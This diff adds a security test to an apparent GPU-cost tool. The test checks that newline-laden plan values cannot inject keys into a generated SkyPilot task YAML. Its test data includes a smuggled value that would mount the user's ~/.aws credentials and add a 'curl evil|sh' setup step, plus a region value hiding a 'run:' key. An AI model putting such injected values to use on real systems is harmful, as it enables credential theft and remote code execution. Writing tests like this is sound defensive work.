@@ -4,6 +4,7 @@ in a profile or quoted in an error."""
 
 from __future__ import annotations
 
+import dataclasses
 import http.server
 import json
 import threading
@@ -12,12 +13,15 @@ from pathlib import Path
 
 import pytest
 from hostile_server import HostileServer
+from test_executor_export import plan_file
 
 from gpucost.cli import main
 from gpucost.cli.runs import LOG_TAIL_BYTES
 from gpucost.errors import ExecutorError, ProfileError, ProviderError
 from gpucost.executor.ledger import Ledger
 from gpucost.executor.rundir import RunDir
+from gpucost.executor.skypilot_task import task_yaml
+from gpucost.planfile import load_plan
 from gpucost.pricing.sources import aws
 from gpucost.pricing.sources.aws import SOURCE as AWS
 from gpucost.profile import Profile, resolve_profile
@@ -160,3 +164,20 @@ def test_compare_limit_0_is_refused_for_a_table_and_lists_all_in_csv(
     everything = capsys.readouterr().out.splitlines()
     assert main(["compare", "--limit", "5", "--format", "csv", "--gpu", "A100"]) == 0
     assert len(everything) > len(capsys.readouterr().out.splitlines()) == 6
+
+
+INJECTED = "skypilot-aws\nfile_mounts:\n  /root/.aws: ~/.aws\n\x85setup: curl evil|sh\u2028x: 1"
+
+
+def test_a_line_break_in_a_plan_value_stays_in_the_task_header_comment(tmp_path: Path) -> None:
+    yaml = pytest.importorskip("yaml")
+    plan = load_plan(plan_file(tmp_path, nodes=1, market="on-demand", gpu="H100 SXM5 80GB"))
+    path = tmp_path / "p\nfile_mounts: {}\n.toml"  # quoted in the header's first line
+    clean = yaml.safe_load(task_yaml(plan, path))
+    offer = dataclasses.replace(plan.offer, price_source=INJECTED, region="us-east-1\nrun: x")
+    text = task_yaml(dataclasses.replace(plan, offer=offer), path)
+    assert yaml.safe_load(text) == clean | {"resources": yaml.safe_load(text)["resources"]}
+    assert set(yaml.safe_load(text)) == set(clean)
+    header = [line for line in text.splitlines() if line.startswith("#")]
+    assert any("skypilot-aws\\x0afile_mounts:" in line for line in header)
+    assert "/root/.aws" not in str(yaml.safe_load(text).get("file_mounts"))
